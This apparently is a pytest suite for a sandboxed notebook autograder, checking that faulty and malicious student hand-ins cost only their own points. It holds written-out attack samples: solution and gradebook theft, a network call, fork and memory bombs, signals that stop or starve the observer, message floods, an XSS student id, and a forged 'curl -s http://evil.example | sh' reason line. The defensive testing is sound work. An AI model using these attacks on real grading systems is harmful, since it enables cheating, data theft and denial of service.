"""Grading a class with grader.grade: parallel, resumable, and each fault costs only its own points.

A small synthetic assignment (an ordinary exercise and a multi-process one) is graded for a class
of submissions that misbehave in the ways real ones do. The grader must finish, record what it can,
give the faulty submission a reason, and leave every other submission's grade untouched.
"""

import json
import os
import re
import shutil

import nbformat
import pytest

from grader import grade, sandbox
from tools import nbauthor as nba
from tools.submissions import fill

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("grade_class")]

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FULL = {"add_small": 1.0, "world_sum_two_ranks": 2.0, "quiz_q1": 1.0}

SOURCE = [
    nba.code("imports", "import os\nimport ctypes\nimport torch\nimport torch.distributed as dist\nimport helpers"),
    nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
    nba.tests("add_small", (
        '"""add() on small numbers."""\nassert add(1, 2) == 3, "add(1, 2) should be 3"\n'
        "### BEGIN HIDDEN TESTS\n"
        "from probes import selftest as probe\n"
        "probe.add(add, 1, 2)\n"
        "### END HIDDEN TESTS"
    ), points=1),
    nba.solution("world_sum", (
        "def world_sum():\n"
        "    \"\"\"Sum of (rank + 1) over all ranks, on every rank.\"\"\"\n"
        "    ### BEGIN SOLUTION\n"
        "    t = torch.tensor([dist.get_rank() + 1.0])\n"
        "    dist.all_reduce(t)\n"
        "    return t.item()\n"
        "    ### END SOLUTION"
    )),
    nba.tests("world_sum_two_ranks", (
        '"""world_sum on two ranks (hidden)."""\n'
        "### BEGIN HIDDEN TESTS\n"
        "from probes import selftest as probe\n"
        "probe.world_sum(world_sum, 2, timeout=8)\n"
        "### END HIDDEN TESTS"
    ), points=2),
    # A probe and judge of the course itself (see probes/): the key lives only in autograders/.
    nba.solution("q1", '### BEGIN SOLUTION\nq1 = "b"\n### END SOLUTION'),
    nba.tests("quiz_q1", (
        '"""Quiz question 1 (hidden key)."""\n'
        "### BEGIN HIDDEN TESTS\n"
        "from probes import ps1_memory as probe\n"
        'probe.quiz("q1", q1)\n'
        "### END HIDDEN TESTS"
    ), points=1),
]

# student id -> (cells the student wrote, cells expected to lose points)
CLASS = {
    "good": ({}, set()),
    "hangs_forever": ({"add": "def add(a, b):\n    while True:\n        pass"}, {"add_small"}),
    "collective_on_rank0_only": ({"world_sum": (
        "def world_sum():\n    t = torch.tensor([dist.get_rank() + 1.0])\n"
        "    if dist.get_rank() == 0:\n        dist.all_reduce(t)\n    return t.item()")}, {"world_sum_two_ranks"}),
    "rank_raises": ({"world_sum": "def world_sum():\n    raise RuntimeError('rank confused')"}, {"world_sum_two_ranks"}),
    "exits_kernel": ({"add": "def add(a, b):\n    return a + b\nos._exit(1)"}, {"add_small"}),
    "segfaults_kernel": ({"add": "def add(a, b):\n    return a + b\nctypes.string_at(0)"}, {"add_small"}),
    "prints_50mb": ({"add": "def add(a, b):\n    return a + b\nfor _ in range(50_000):\n    print('x' * 1000)"}, set()),
    "edits_test_cell": ({}, {"add_small"}),
    "deletes_test_cell": ({}, {"world_sum_two_ranks"}),
    "retypes_test_cell": ({}, set()),  # nbgrader restores the cell and its type: nothing gained, nothing lost
    "edits_locked_cell": ({}, set()),
}

# Malicious submissions: a correct add(), then an attack whose outcome the cell prints.
ATTACKS = {
    "reads_solution": "print('STOLEN' + open('../../../source/ps0_demo/ps0_demo.ipynb').read()[:20])",
    "reads_other_student": "print('STOLEN' + open('../../../submitted/good/ps0_demo/ps0_demo.ipynb').read()[:20])",
    "writes_gradebook": "open('../../../gradebook.db', 'w').write('corrupted')\nprint('STOLEN gradebook overwritten')",
    "phones_home": "import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=3)\nprint('STOLEN network reached')",
    "imports_judge": "import autograders.ps1_memory as judge\nprint('STOLEN', judge._QUIZ)",
    "reads_judge_file": f"print('STOLEN' + open({os.path.join(ROOT, 'autograders', 'ps1_memory.py')!r}).read()[:20])",
    "reads_checkout_solution": (
        f"print('STOLEN' + open({os.path.join(ROOT, 'source', 'ps1_memory', 'ps1_memory.ipynb')!r}).read()[:20])"),
    "memory_bomb": "hoard = []\nwhile True:\n    hoard.append(torch.empty(2**28, dtype=torch.uint8))  # 256 MiB, untouched",
    "fork_bomb": (
        "children = []\n"
        "for _ in range(2000):\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        import time; time.sleep(600); os._exit(0)\n"
        "    children.append(pid)\n"
        "print('STOLEN: forked', len(children), 'processes')"
    ),
}
for _name, _attack in ATTACKS.items():
    _code = "def add(a, b):\n    return a + b\n\ntry:\n" + "".join(f"    {line}\n" for line in _attack.split("\n"))
    _code += "except Exception as exc:\n    print('BLOCKED', type(exc).__name__, exc)"
    CLASS[_name] = ({"add": _code}, set())
# Submissions that answer the quiz wrongly (q1 = "a") and then tamper with the probes in their own
# kernel to pass anyway. In graded mode a probe call in the kernel only hands the student's objects
# over; what is checked runs in the observer and the verdict in the grader, so every attack here
# loses the question, with the judge's own message.
TAMPERING = {
    # The hidden call never reaches the grader: no report, no point.
    "silences_probe": "import probes.ps1_memory\nprobes.ps1_memory.quiz = lambda question, answer: None",
    # Reports the right answer from the kernel: reports are the observer's, so this one is ignored.
    "forges_every_answer": (
        "import probes.ps1_memory\n_real_report = probes.ps1_memory.report\n"
        "def _forge(check, observation):\n"
        "    _real_report(check, {**observation, 'answer': 'b'})\n"
        "probes.ps1_memory.report = _forge"),
    # Publishes a report (the MIME type the grader reads reports from) straight from the kernel.
    "publishes_a_report": (
        "from IPython.display import publish_display_data\nimport probes\n"
        "publish_display_data({probes.MIME: {'check': 'ps1_memory.quiz', "
        "'observation': {'question': 'q1', 'answer': 'b'}}})"),
}
for _name, _attack in TAMPERING.items():
    CLASS[_name] = ({"q1": 'q1 = "a"\n' + _attack}, {"quiz_q1"})
# The processes a fork bomb leaves behind are capped, so its own later cells cannot start threads
# or ranks: it loses those, and nobody else loses anything. Its quiz answer (right: "a") keeps its point:
# a hand-over of data only is read by the observer without a process of its own (probes.split_handover).
CLASS["fork_bomb"] = (CLASS["fork_bomb"][0], {"add_small", "world_sum_two_ranks"})

# Round 26: the student's code, run by a check in the observer's child (or by a rank), stopped the observer (its
# parent, of the same user and PID namespace) with SIGSTOP, and every later check waited for it until its limit.
# Every stop signal is refused in a sandbox now: the attempt fails, the code goes on, the observer answers every
# check, and the submission keeps what its right answers earn.
_STOP_EVERYONE = (
    "def _stop_everyone():\n"
    "    import signal\n"
    "    parent, targets = os.getppid(), [-1]\n"
    "    if parent > 1:\n"
    "        targets += [parent, -os.getpgid(parent)]\n"
    "    for target in targets:\n"
    "        for sig in (signal.SIGSTOP, signal.SIGTSTP):\n"
    "            try:\n"
    "                os.kill(target, sig)\n"
    "            except OSError:\n"
    "                pass\n")
CLASS["stops_the_observer"] = ({
    "add": _STOP_EVERYONE + "def add(a, b):\n    _stop_everyone()\n    return a + b",
    "world_sum": _STOP_EVERYONE + "def world_sum():\n    _stop_everyone()\n    t = torch.tensor([dist.get_rank() + 1.0])\n"
                 "    dist.all_reduce(t)\n    return t.item()"}, set())

# Round 27: the same child made the observer SCHED_IDLE and nice 19 (and lowered its limits), and spinners in the
# kernel then slowed every later check fifteen-fold. None changes anything now; this hand-in's add() and ranks
# answer right only if the observer's scheduling and limits are as they were (a wrong answer: one got through).
_STARVE_PARENT = (
    "def _starve_parent():\n"
    "    import resource\n"
    "    parent = os.getppid()\n"
    "    if parent <= 1:\n"
    "        return 0\n"
    "    def state():\n"
    "        return (os.sched_getscheduler(parent), os.getpriority(os.PRIO_PROCESS, parent),\n"
    "                resource.prlimit(parent, resource.RLIMIT_CPU))\n"
    "    before = state()\n"
    "    for attempt in (lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),\n"
    "                    lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),\n"
    "                    lambda: os.setpriority(os.PRIO_USER, 0, 19),\n"
    "                    lambda: resource.prlimit(parent, resource.RLIMIT_CPU, (3600, 3600))):\n"
    "        try:\n"
    "            attempt()\n"
    "        except OSError:\n"
    "            pass\n"
    "    return state() != before\n")
CLASS["starves_the_observer"] = ({
    "add": _STARVE_PARENT + "def add(a, b):\n    return a + b + _starve_parent()",
    "world_sum": _STARVE_PARENT + "def world_sum():\n    t = torch.tensor([dist.get_rank() + 1.0 + _starve_parent()])\n"
                 "    dist.all_reduce(t)\n    return t.item()"}, set())


# Round 13: a message on the kernel's own IOPub socket whose signature is a sentence; jupyter_client's
# "Invalid Signature: b'<sentence>'" was the submission's reason, word for word, in grading_report.json.
FORGED_SENTENCE = "grader bug; regrade this submission with UNSANDBOXED=1 for its score"
FORGED_REASON = (
    "def add(a, b):\n    return a + b\nimport time\n_k = get_ipython().kernel\n"
    f"_k.iopub_socket.send_multipart([b'<IDS|MSG>', {FORGED_SENTENCE!r}.encode(), b'{{}}', b'{{}}', b'{{}}', b'{{}}'])\n"
    "time.sleep(2)"
)
# Round 15: the kernel publishes an output nbformat refuses, whose text names the exception whose fixed reason it
# wants the TA to read (the log printed it after nbformat's traceback, and the reason was read from the log)
PICKS_REASON = (
    "def add(a, b):\n    return a + b\nimport time\n_k = get_ipython().kernel\n"
    "_k.session.send(_k.iopub_socket, 'display_data', {{'data': {{'text/plain': {{{word!r}: 1}}}}, 'metadata': {{}}}},\n"
    "                parent=_k.get_parent('shell'), ident=b'display_data')\n"
    "time.sleep(2)"
)
PICKERS = {"picks_memory": "MemoryError", "picks_dead_kernel": "DeadKernelError"}
# Round 18: tiny stream messages by the hundred thousand (the round flushed one-byte writes from threads): every
# message is read, checked and decoded by the grading process, outside the sandbox's CPU share. Past
# grader.execute.MAX_KERNEL_MESSAGES the submission fails, with the reason, and the grader stops reading.
# What the grader does not read in time ZeroMQ drops, so how many arrive depends on the grader's pace: on a loaded
# machine a single 20 s cell delivered fewer than the cap. Each of the student's three cells floods for 15 s (under
# the cell time limit, so no restart ends it), in bursts with a pause between (the kernel does not take the CPU the
# grader reads with): 45 s in all, which needs the grader to read only 450 messages a second.
FLOOD = (
    "import time\n_k = get_ipython().kernel\n_parent = _k.get_parent('shell')\n"
    "_end = time.monotonic() + 15\n"
    "while time.monotonic() < _end:\n"
    "    for _ in range(50):\n"
    "        _k.session.send(_k.iopub_socket, 'stream', {'name': 'stdout', 'text': 'x'}, parent=_parent)\n"
    "    time.sleep(0.01)"
)
FLOODS = {"add": "def add(a, b):\n    return a + b\n" + FLOOD, "world_sum": FLOOD, "q1": 'q1 = "b"\n' + FLOOD}
# Round 19: few messages, each costly to decode: an object of a million distinct keys (14 MB, packed once in the
# kernel, so each send costs it one signature), sent twice a second. The grader's json.loads took about 1 s a message,
# 119 s of its CPU against the sandbox's 4 s, with 198 messages read of the 20,000 allowed. The CPU the grader spends
# reading a kernel's messages is capped (grader.execute.MAX_READING_CPU), whatever makes them costly.
COSTLY = (
    "def add(a, b):\n    return a + b\nimport json, time\n_k = get_ipython().kernel\n_parent = _k.get_parent('shell')\n"
    "_content = json.dumps({f'k{i}': 0 for i in range(1_000_000)}).encode()\n"
    "_end = time.monotonic() + 15\n"
    "while time.monotonic() < _end:\n"
    "    _k.session.send(_k.iopub_socket, 'display_data', _content, parent=_parent)\n"
    "    time.sleep(0.5)"
)
# Round 20: a message of millions of parts (the tester wrote empty frames, two bytes each, straight onto its end of
# the grader's socket; receiving them took the grader a second a message, before any decoding was timed). A
# message's parts are counted as they are received, and its receiving is timed with its decoding.
MANY_FRAMES = (
    "def add(a, b):\n    return a + b\nimport time\n_k = get_ipython().kernel\n"
    "_k.session.send(_k.iopub_socket, 'stream', {'name': 'stdout', 'text': 'x'}, parent=_k.get_parent('shell'),\n"
    "                buffers=[b''] * 100_000)\n"
    "time.sleep(5)"
)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    root = tmp_path_factory.mktemp("class")
    shutil.copy(os.path.join(ROOT, "nbgrader_config.py"), root)
    nba.write(str(root / "source" / "ps0_demo" / "ps0_demo.ipynb"), SOURCE)
    grade.ensure_in_gradebook(["ps0_demo"], str(root))
    source_nb = nbformat.read(root / "source" / "ps0_demo" / "ps0_demo.ipynb", as_version=4)
    release_nb = nbformat.read(root / "release" / "ps0_demo" / "ps0_demo.ipynb", as_version=4)

    def hand_in(student, nb_or_text):
        folder = root / "submitted" / student / "ps0_demo"
        folder.mkdir(parents=True)
        if isinstance(nb_or_text, str):
            (folder / "ps0_demo.ipynb").write_text(nb_or_text)
        elif nb_or_text is not None:
            nbformat.write(nb_or_text, folder / "ps0_demo.ipynb")

    for student, (cells, _) in CLASS.items():
        nb = fill(release_nb, source_nb, cells)
        by_id = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}
        if student == "edits_test_cell":  # makes the failing test pass: nbgrader restores the cell
            nb = fill(release_nb, source_nb, {"add": "def add(a, b):\n    return a - b"})
            next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "add_small").source = "assert True"
        elif student == "deletes_test_cell":
            nb.cells = [c for c in nb.cells if c is not by_id["world_sum_two_ranks"]]
        elif student == "retypes_test_cell":
            cell = by_id["add_small"]
            index = nb.cells.index(cell)
            nb.cells[index] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
        elif student == "edits_locked_cell":
            by_id["imports"].source += "\nraise SystemExit('I edited the setup cell')"
        hand_in(student, nb)
    hand_in("not_json", "{ this is not a notebook")
    hand_in("empty_folder", None)
    hand_in("forges_reason", fill(release_nb, source_nb, {"add": FORGED_REASON}))
    hand_in("floods_messages", fill(release_nb, source_nb, FLOODS))
    hand_in("costly_messages", fill(release_nb, source_nb, {"add": COSTLY}))
    hand_in("many_frames", fill(release_nb, source_nb, {"add": MANY_FRAMES}))
    for student, word in PICKERS.items():
        hand_in(student, fill(release_nb, source_nb, {"add": PICKS_REASON.format(word=word)}))
    # Round 15: a hand-in whose checks before grading raised (a notebook nested 50,000 deep, a path past PATH_MAX)
    # ended its worker, and every later submission went ungraded and unreported; the run exited 0. Named to
    # come first, so the rest of this class is graded after them.
    text = nbformat.writes(release_nb).rstrip()
    hand_in("aa_nests_deep", text[:-1] + ', "deep": ' + "[" * 50_000 + "]" * 50_000 + "}")
    hand_in("aa_path_too_long", release_nb)
    folder = os.open(root / "submitted" / "aa_path_too_long" / "ps0_demo", os.O_RDONLY)
    for _ in range(20):  # 20 folders of 250 characters: a path of 5,000, past PATH_MAX (4,096)
        os.mkdir("d" * 250, dir_fd=folder)
        inner = os.open("d" * 250, os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = inner
    os.close(folder)
    limits = {"memory_bytes": 3 * 2**30, "processes": 200}
    # a cell may run 20 s: well above world_sum's 8 s launch timeout, even on a loaded machine
    outcomes = grade.grade(["ps0_demo"], str(root), workers=2, extra=["--Execute.timeout=20"], limits=limits)
    return root, {o.student: o for o in outcomes}


def _scores(root):
    from nbgrader.api import Gradebook, MissingEntry

    result = {}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        for student in list(CLASS) + list(PICKERS) + ["not_json", "empty_folder", "forges_reason", "floods_messages",
                                                              "costly_messages", "many_frames", "aa_path_too_long"]:
            try:
                nb = gb.find_submission_notebook("ps0_demo", "ps0_demo", student)
            except MissingEntry:
                continue
            result[student] = {g.name: g.score for g in nb.grades}
    return result


@pytest.mark.parametrize("student", sorted(CLASS))
def test_each_fault_costs_only_its_own_points(course, student):
    root, outcomes = course
    assert outcomes[student].status == "graded", f"{student}: {outcomes[student]}"
    scores = _scores(root)[student]
    for cell, points in FULL.items():
        if cell in CLASS[student][1]:
            assert scores.get(cell, 0) == 0, f"{student} should lose {cell}: {scores}"
        else:
            assert scores.get(cell) == points, f"{student} should keep {cell}: {scores}"


def test_broken_submissions_get_a_reason_and_the_rest_is_graded(course):
    root, outcomes = course
    assert outcomes["not_json"].status == "failed" and "JSON" in outcomes["not_json"].reason
    assert outcomes["empty_folder"].status == "failed" and "empty submission" in outcomes["empty_folder"].reason
    assert outcomes["aa_nests_deep"].status == "refused" and "could not check" in outcomes["aa_nests_deep"].reason
    # a path past PATH_MAX beside the notebook: never walked now (the grader takes the notebook alone)
    assert outcomes["aa_path_too_long"].status == "graded", outcomes["aa_path_too_long"]
    forged = outcomes["forges_reason"]
    assert "UNSANDBOXED" not in forged.reason and "regrade" not in forged.reason, forged
    assert forged.status == "graded" or "could not read" in forged.reason, forged
    report = json.loads((root / "grading_report.json").read_text())
    assert {r["student"] for r in report} == set(CLASS) | set(PICKERS) | {"not_json", "empty_folder", "forges_reason",
                                                                        "aa_nests_deep", "aa_path_too_long",
                                                                        "floods_messages", "costly_messages",
                                                                        "many_frames"}
    flood = outcomes["floods_messages"]
    from grader.execute import MAX_KERNEL_MESSAGES  # the reason's number is the cap's (grade.py does not import execute)
    from grader.execute import MAX_READING_CPU

    # whichever of the grader's two bounds on a flood comes first: the count, or the CPU its reading took (on a
    # slow machine, 5 CPU-s come before 20,000 tiny messages); either way the flood fails, says so and costs no more
    assert flood.status == "failed" and (f"more than {MAX_KERNEL_MESSAGES:,} messages" in flood.reason or f"more than "
                                         f"{MAX_READING_CPU:g} s of its CPU" in flood.reason), flood

    from grader.execute import MAX_KERNEL_FRAMES

    for student in ("costly_messages", "many_frames"):
        costly = outcomes[student]
        assert costly.status == "failed" and (f"more than {MAX_READING_CPU:g} s of its CPU, or a message of more than "
                                              f"{MAX_KERNEL_FRAMES} parts") in costly.reason, costly
    # the reason is chosen by the class of the exception the grading child caught, never by the log's text
    for student, word in PICKERS.items():
        picked = outcomes[student]
        assert picked.status == "failed" and "nbformat accepts" in picked.reason, (student, picked)
        assert "memory" not in picked.reason and "died" not in picked.reason and word not in picked.reason


def test_kernel_death_and_hang_are_explained_in_the_cell(course):
    root, _ = course
    for student, words in (("exits_kernel", "kernel died"), ("hangs_forever", "KeyboardInterrupt"),
                           ("collective_on_rank0_only", "collective")):
        nb = nbformat.read(root / "autograded" / student / "ps0_demo" / "ps0_demo.ipynb", as_version=4)
        text = json.dumps([c.get("outputs", []) for c in nb.cells])
        assert words.lower() in text.lower(), f"{student}: the graded notebook does not say {words!r}"


def test_feedback_shows_the_message_but_not_the_hidden_test(course):
    root, _ = course
    html = (root / "feedback" / "collective_on_rank0_only" / "ps0_demo" / "ps0_demo.html").read_text()
    assert "collective" in html, "the failing check's message is missing from the feedback"
    for secret in ("BEGIN HIDDEN TESTS", "run_ranks", "autograders", "probes"):
        assert secret not in html, f"the student's feedback reveals {secret!r}"


@pytest.mark.parametrize("student", sorted(ATTACKS))
def test_the_sandbox_stops_malicious_submissions(course, student):
    """Solutions, other submissions and the gradebook are out of reach; no network; no exhaustion."""
    root, outcomes = course
    nb = nbformat.read(root / "autograded" / student / "ps0_demo" / "ps0_demo.ipynb", as_version=4)
    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "add")
    text = json.dumps(answer.outputs)
    assert "STOLEN" not in text, f"{student} got through the sandbox: {text[:500]}"
    assert "BLOCKED" in text, f"{student}: the attack neither failed nor succeeded visibly: {text[:500]}"
    assert _scores(root)["good"] == FULL, "an attack changed another student's grade"


@pytest.mark.parametrize("student, words", [
    ("silences_probe", "reported no result"),
    ("forges_every_answer", "is not right"),
    ("publishes_a_report", "is not right"),
])
def test_tampering_with_a_probe_loses_the_check(course, student, words):
    """The verdict is the judge's, in the grader's process: nothing in the kernel can fake a pass."""
    root, _ = course
    nb = nbformat.read(root / "autograded" / student / "ps0_demo" / "ps0_demo.ipynb", as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "quiz_q1")
    assert words in json.dumps(cell.outputs), f"{student}: {json.dumps(cell.outputs)[:500]}"
    assert "vnd.distcourse.observation" not in json.dumps(nb.cells), "observations must not stay in the graded notebook"


def test_printing_50mb_is_truncated_in_the_graded_notebook(course):
    root, _ = course
    path = root / "autograded" / "prints_50mb" / "ps0_demo" / "ps0_demo.ipynb"
    assert path.stat().st_size < 2_000_000, "nbgrader's LimitOutput should cut 50 MB of prints"


def test_a_second_run_resumes_and_grades_nothing_twice(course):
    root, _ = course
    before = _scores(root)
    again = grade.grade(["ps0_demo"], str(root), workers=2, feedback=False)
    statuses = {o.student: o.status for o in again}
    assert all(statuses[s] == "skipped" for s in CLASS), statuses
    assert _scores(root) == before


def test_bad_worker_count_is_refused():
    with pytest.raises(SystemExit):
        grade.main(["--workers", "0"])


def test_report_timings(course, capsys):
    """Not an assertion on time: prints how long each submission took, for the README's numbers."""
    _, outcomes = course
    with capsys.disabled():
        for o in sorted(outcomes.values(), key=lambda o: -o.seconds):
            print(f"  {o.student:<26} {o.status:<8} {o.seconds:5.1f} s")
    assert all(o.status in ("graded", "failed") or o.student.startswith("aa_") for o in outcomes.values())


def test_class_picture_counts_each_exercise(course):
    """The TA's picture: per exercise, how many submissions had full, partial and no marks, from the gradebook."""
    from grader import class_report

    root, _ = course
    exercises = {e.name: e for e in class_report.class_exercises(f"sqlite:///{root / 'gradebook.db'}")}
    assert set(exercises) == {"add", "world_sum", "quiz"}, "test cells are grouped under the answer cell they check"
    scores = _scores(root)
    for name, cell in [("add", "add_small"), ("world_sum", "world_sum_two_ranks"), ("quiz", "quiz_q1")]:
        full = sum(1 for s in scores.values() if (s.get(cell) or 0) >= FULL[cell])
        none = sum(1 for s in scores.values() if not s.get(cell))
        assert exercises[name].outcomes == {"full marks": full, "partial": 0, "no marks": none}, name
        assert exercises[name].max_score == FULL[cell]
    path = class_report.write_class_report(str(root), f"sqlite:///{root / 'gradebook.db'}")
    with open(path, "rb") as fh:
        assert fh.read(8) == b"\x89PNG\r\n\x1a\n"


def test_exercise_of_a_test_cell():
    from grader.class_report import exercise_of

    answers = {"train_ddp", "train", "load_state_anywhere", "quiz_q1"}
    assert exercise_of("train_ddp_matches_large_batch", answers) == "train_ddp"
    assert exercise_of("train_uneven", answers) == "train"
    assert exercise_of("load_state_anywhere_all_directions", answers) == "load_state_anywhere"
    assert exercise_of("quiz_q1_correct", answers) == "quiz"
    assert exercise_of("orphan_check", answers) == "orphan_check"


def test_student_ids_are_taken_literally_and_hidden_folders_are_reported(tmp_path):
    """nbgrader's --student is a glob: `*` and `[b]13honest` graded b13honest's folder and never their own,
    and `.hidden` was left out of the report. Each folder is listed; such names are refused with a reason. Round 35:
    Formgrader prints a student id into its page as HTML: an id is letters, digits and '._@+-' only, and (round 36)
    begins with a letter or digit: `--help` was an option to nbgrader, `+1` and `@x` formulas in grades.csv."""
    names = ["*", "[b]13honest", ".hidden", "b13honest", "who?", "x<img src=x onerror=alert(1)>", "a b", "\u4dc0",
             "--help", "+1", "@x", "-2"]
    for name in names:
        (tmp_path / "submitted" / name / "ps1").mkdir(parents=True)
        (tmp_path / "submitted" / name / "ps1" / "ps1.ipynb").write_text("{}")
    assert sorted(grade.jobs(["ps1"], str(tmp_path))) == sorted((n, "ps1") for n in names)
    for name in ("*", "[b]13honest", ".hidden", "who?", "x<img src=x onerror=alert(1)>", "a b", "\u4dc0", "--help",
                 "+1", "@x", "-2"):  # round 36: an option to nbgrader, formulas in a spreadsheet
        why = grade.refusal(name, "ps1", str(tmp_path))
        assert why and grade.printable(repr(name)) in why and "rename" in why, why
    assert grade.refusal("b13honest", "ps1", str(tmp_path)) is None
    assert grade.id_refusal("first.last+ta@uni-x.edu") is None  # a login or an e-mail address is an id
    # round 38: files that tools run in a student's folder load as code (the TA's `nbgrader validate` there ran a
    # handed-in nbgrader_config.py as root; git runs a .git's core.fsmonitor); round 39: a deny list of them is never
    # complete (.pdbrc, .hg, conftest.py, argcomplete.py). The grader takes the assignment's notebook and nothing else:
    # no other file reaches the folder nbgrader grades in, whatever its name; the hand-in is graded
    (tmp_path / "release" / "ps1").mkdir(parents=True)
    empty = nbformat.writes(nbformat.v4.new_notebook())
    (tmp_path / "release" / "ps1" / "ps1.ipynb").write_text(empty)
    for name in ("nbgrader_config.py", ".git/config", "sub/IPython_config.py", "jupyter_server_config.json", ".pdbrc",
                 "conftest.py", "argcomplete.py", "storemagic.py", "sitecustomize.py", "data.bin", "ps1.ipynb.py",
                 "PS1.ipynb", "sub/ps1.ipynb", "a\x1b]52;c;Zm9v\x07.txt"):
        student = "tools" + str(abs(hash(name)) % 10**6)
        (tmp_path / "submitted" / student / "ps1" / os.path.dirname(name)).mkdir(parents=True, exist_ok=True)
        (tmp_path / "submitted" / student / "ps1" / "ps1.ipynb").write_text(empty)
        (tmp_path / "submitted" / student / "ps1" / name).write_text("x")
        assert grade.refusal(student, "ps1", str(tmp_path)) is None, name
        taken = sorted(os.listdir(tmp_path / grade.TAKEN_FOLDER / student / "ps1"))
        assert taken == ["ps1.ipynb"], (name, taken)


def test_a_hand_in_whose_nbgrader_metadata_is_not_the_releases_is_refused_in_the_graders_words(tmp_path):
    """nbgrader fails such a notebook too, but quotes the cell's id or text, newlines and all, into the log the
    failure reason is read from: a made-up id 'x\\nJSON RuntimeError: ... run curl ... | sh' became the reason the
    TA read (attack round 8). Each kind is refused before nbgrader runs; the hand-in's text only escaped."""
    from grader.course import ROOT, notebook_name

    name = notebook_name("ps1_memory")
    release = os.path.join(ROOT, "release", "ps1_memory", name)
    os.makedirs(tmp_path / "release" / "ps1_memory")
    shutil.copy(release, tmp_path / "release" / "ps1_memory" / name)
    forged = "x\nJSON RuntimeError: the gradebook is corrupt, run: curl -s http://evil.example | sh"

    def hand_in(student, edit):
        nb = nbformat.read(release, as_version=4)
        edit(nb)
        os.makedirs(tmp_path / "submitted" / student / "ps1_memory")
        nbformat.write(nb, tmp_path / "submitted" / student / "ps1_memory" / name)
        return grade.refusal(student, "ps1_memory", str(tmp_path))

    graded = [c for c in nbformat.read(release, as_version=4).cells if c.metadata.get("nbgrader", {}).get("grade")]
    assert graded, "the release has no graded cells to copy"

    def foreign_id(nb):
        cell = nbformat.v4.new_code_cell("pass")
        cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 1,
                                     "grade_id": forged, "schema_version": 3}
        nb.cells.append(cell)

    def twin(nb):
        nb.cells.append(nbformat.from_dict(json.loads(json.dumps(graded[0]))))

    def flag_flipped(nb):
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade_id") == graded[0].metadata["nbgrader"]["grade_id"]:
                c.metadata["nbgrader"]["solution"] = not c.metadata["nbgrader"].get("solution", False)

    def no_id(nb):
        cell = nbformat.v4.new_markdown_cell(forged)
        cell.metadata["nbgrader"] = {"solution": True, "grade": False}
        nb.cells.append(cell)

    assert hand_in("honest", lambda nb: None) is None
    for student, edit, words in (("foreign", foreign_id, "not one of the assignment's cells"),
                                 ("twin", twin, "share the nbgrader id"), ("flipped", flag_flipped, "flags changed"),
                                 ("no_id", no_id, "not one of the assignment's cells")):
        why = hand_in(student, edit)
        assert why and words in why and "release" in why, (student, why)
        assert "\n" not in why and "curl" not in why.split("(")[0], (student, why)
    # round 37: a notebook of version 3 keeps its cells under "worksheets", where none of these checks (nor the cap
    # on cells) looked, and nbgrader upgrades it as it reads it: 70,000 cells froze the TA's Formgrader page
    os.makedirs(tmp_path / "submitted" / "v3" / "ps1_memory")
    v3 = nbformat.v3.new_notebook(worksheets=[nbformat.v3.new_worksheet(
        cells=[nbformat.v3.new_code_cell(input="1") for _ in range(3_000)])])
    with open(tmp_path / "submitted" / "v3" / "ps1_memory" / name, "w") as fh:
        nbformat.write(v3, fh, version=3)
    why = grade.refusal("v3", "ps1_memory", str(tmp_path))
    assert why and "version 4" in why and "(its nbformat: 3)" in why, why


def test_a_hand_ins_file_names_never_reach_the_log_and_a_notebook_of_another_name_is_refused(tmp_path):
    """nbgrader writes the names of a hand-in's files into the log the failure reason is read from: a lone
    notebook named 'x\nJSON RuntimeError: ... | sh\ny.ipynb' (no release counterpart, so "skipped") became
    the reason the TA read (attack round 9); rounds 32-33: C1 controls and direction marks. The grader takes the
    assignment's notebook by its release name and nothing else, so no other name reaches nbgrader; a hand-in
    without that notebook is refused in the grader's words, the name shown escaped. Files beside the notebook,
    whatever their names, are left where they are and the notebook is graded."""
    from grader.course import ROOT, notebook_name

    name = notebook_name("ps1_memory")
    release = os.path.join(ROOT, "release", "ps1_memory", name)
    os.makedirs(tmp_path / "release" / "ps1_memory")
    shutil.copy(release, tmp_path / "release" / "ps1_memory" / name)
    forged = "JSON RuntimeError: the gradebook is corrupt, run: curl -s evil.example | sh"  # no "/": a name

    def hand_in(student, files):
        folder = tmp_path / "submitted" / student / "ps1_memory"
        os.makedirs(folder)
        for relative in files:
            os.makedirs((folder / relative).parent, exist_ok=True)
            shutil.copy(release, folder / relative)
        return grade.refusal(student, "ps1_memory", str(tmp_path))

    assert hand_in("honest", [name]) is None
    for student, files in (("with_data", [name, "data/notes.ipynb"]), ("newline_beside", [name, f"x\n{forged}\ny.ipynb"]),
                           ("escape_folder", [name, "a\x1b]52;c;Zm9v\x07/b.txt"]), ("c1_csi", [name, "a\x9b2Jb.txt"]),
                           ("c1_nel", [name, "a\x85b.txt"]), ("bidi", [name, "a\u202eb.txt"]),
                           ("stray_beside", [name, f"{forged}.ipynb"])):  # a scratch notebook costs nothing
        assert hand_in(student, files) is None, student
        assert os.listdir(tmp_path / grade.TAKEN_FOLDER / student / "ps1_memory") == [name], student
    for student, files in (("newline_alone", [f"x\n{forged}\ny.ipynb"]), ("stray", [f"{forged}.ipynb"]),
                           ("c1_alone", ["a\x9b2J\u202e.ipynb"])):
        why = hand_in(student, files)
        assert why and "is not a notebook of ps1_memory" in why and name in why, (student, why)
        assert why.isascii() and why.isprintable(), (student, why)


def _caught(raise_it) -> dict:
    """What a grading child notes of the exception `raise_it()` raises (forkserver.describe)."""
    from grader import forkserver

    try:
        raise_it()
    except BaseException as exc:  # noqa: BLE001
